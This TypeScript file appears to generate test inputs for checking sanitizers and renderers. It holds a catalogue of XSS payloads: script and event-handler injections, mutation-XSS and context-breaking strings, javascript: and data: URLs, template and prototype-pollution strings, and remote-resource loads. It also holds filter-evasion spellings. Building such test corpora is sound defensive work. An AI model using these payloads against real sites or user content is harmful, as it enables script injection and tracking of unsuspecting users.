// Texts that try to run script or to reach another host wherever they are shown: HTML, Markdown, addresses, templates.
import { seededChance } from '../random.ts'

export interface HostileText {
  /** What the text can be known by, letters and digits only. */
  mark: string
  text: string
}

/** Makes a payload that calls `hit` (a script expression) or asks `host` for something. */
type Attack = (told: { hit: string; host: string }) => string

const ATTACKS: readonly Attack[] = [
  ({ hit }) => `<script>${hit}</script>`,
  ({ host }) => `<script src="${host}/script.js"></script>`,
  ({ hit }) => `<img src=x onerror="${hit}">`,
  ({ host }) => `<img src="${host}/pixel.png" alt="">`,
  ({ host }) => `<img srcset="${host}/set.png 1x">`,
  ({ hit }) => `<svg onload="${hit}"><circle r="4"/></svg>`,
  ({ hit }) => `<svg><script>${hit}</script></svg>`,
  ({ hit }) => `<svg><animate onbegin="${hit}" attributeName="x" dur="1s"/></svg>`,
  ({ host }) => `<svg><image href="${host}/in.svg"/><use href="${host}/use.svg#a"/></svg>`,
  ({ hit }) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${hit}></style></mglyph></table></mtext></math>`,
  ({ hit }) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  ({ host }) => `<iframe src="${host}/frame"></iframe>`,
  ({ hit }) => `<iframe src="javascript:parent.${hit}"></iframe>`,
  ({ host }) => `<object data="${host}/object"></object><embed src="${host}/embed">`,
  ({ host }) => `<link rel="stylesheet" href="${host}/style.css"><link rel="prefetch" href="${host}/next">`,
  ({ host }) =>
    `<style>@import url("${host}/import.css"); body { background: url(${host}/back.png) }</style>`,
  ({ host }) => `<p style="background-image:url('${host}/paint.png')">painted</p>`,
  ({ hit }) => `<details open ontoggle="${hit}"><summary>more</summary></details>`,
  ({ hit }) => `<input autofocus onfocus="${hit}">`,
  ({ hit }) => `<select autofocus onfocus=${hit}><option>one</option></select>`,
  ({ hit }) => `<video><source onerror="${hit}"></video>`,
  ({ host }) =>
    `<video poster="${host}/poster.png" src="${host}/film.webm"></video><audio src="${host}/a.ogg"></audio>`,
  ({ hit }) => `<body onload="${hit}" onpageshow="${hit}">`,
  ({ hit }) => `<marquee onstart="${hit}">moving</marquee>`,
  ({ host }) => `<meta http-equiv="refresh" content="0;url=${host}/away"><base href="${host}/">`,
  ({ host }) => `<form action="${host}/form"><button autofocus>send</button></form>`,
  ({ hit }) => `<a href="javascript:${hit}">press here</a>`,
  ({ hit }) => `<a href="java\tscript:${hit}">press here too</a>`,
  ({ hit }) =>
    `<template><img src=x onerror="${hit}"></template><noscript><img src=x onerror="${hit}"></noscript>`,
  ({ hit }) => `"><img src=x onerror="${hit}"><"`,
  ({ hit }) => `' autofocus onfocus='${hit}' x='`,
  ({ hit }) => `</title></textarea></style></script><script>${hit}</script>`,
  ({ hit }) => `--><script>${hit}</script><!--`,
  ({ hit }) => `]]><script>${hit}</script><![CDATA[`,
  ({ hit }) => `&lt;script&gt;${hit}&lt;/script&gt; &#60;img src=x onerror=&#34;${hit}&#34;&#62;`,
  ({ hit }) => `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
  ({ hit }) => `%3Cscript%3E${encodeURIComponent(hit)}%3C/script%3E`,
  ({ host }) => `![a picture](${host}/markdown.png)`,
  ({ host }) => `![a picture][1]\n\n[1]: ${host}/reference.png "title"`,
  ({ hit }) => `[press here](javascript:${hit})`,
  ({ hit }) => `[press here](data:text/html;base64,${btoa(`<script>parent.${hit}</script>`)})`,
  ({ hit }) => `<javascript:${hit}> and <${'vbscript'}:${hit}>`,
  ({ host }) => `[![seen](${host}/nested.png)](${host}/nested)`,
  ({ hit }) => `\`\`\`html\n<script>${hit}</script>\n\`\`\``,
  ({ hit }) => `| a | b |\n|---|---|\n| <img src=x onerror="${hit}"> | ok |`,
  ({ hit }) => `# <img src=x onerror="${hit}">`,
  ({ hit }) => `{{constructor.constructor('${hit}')()}} \${${hit}} <%= ${hit} %> #{${hit}}`,
  ({ hit }) => `__proto__[onerror]=${hit}&constructor[prototype][innerHTML]=<img src=x onerror="${hit}">`,
  ({ hit }) => `data:text/html,<script>parent.${hit}</script>`,
  ({ hit }) => `\u202e<script>${hit}</script>\u202c \ufeff<img\u00a0src=x onerror="${hit}">`,
]

/** What stands around an attack, as people write. */
const FRAMES: readonly ((attack: string) => string)[] = [
  (attack) => `Our garden opens at nine ${attack} and closes at six.`,
  (attack) => `${attack} A season ticket costs 48 euros.`,
  (attack) => `The workshop takes two days. ${attack}`,
  (attack) => `Ask for "${attack}" at the counter.`,
  (attack) => `The lamp (${attack}) hangs in the hall.`,
  (attack) => `The manual of the boiler shows ${attack} on its twelfth page.`,
]

/** Ways of spelling the same attack that filters stumble over. */
const SPELLINGS: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => attack.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (attack) => attack.replace(/ on(\w+)=/g, '/on$1='),
  (attack) => attack.replaceAll('<', '<\n'),
  (attack) => attack.replaceAll('javascript:', 'JaVaScRiPt&colon;'),
]

/** So many different texts; those that can do harm call `window.hostileHit` or ask `host` (an origin) for something. */
export function hostileTexts(seed: number, count: number, host: string): HostileText[] {
  const chance = seededChance(seed, 'hostile')
  return Array.from({ length: count }, (_, number) => {
    const mark = `mark${seed.toString(36)}n${number}`
    const hit = `hostileHit('${mark}')`
    const attack = ATTACKS[number % ATTACKS.length]?.({ hit, host: `${host}/${mark}` }) ?? hit
    const framed = chance.pick(FRAMES)(chance.pick(SPELLINGS)(attack))
    return { mark, text: `${mark} ${framed}` }
  })
}
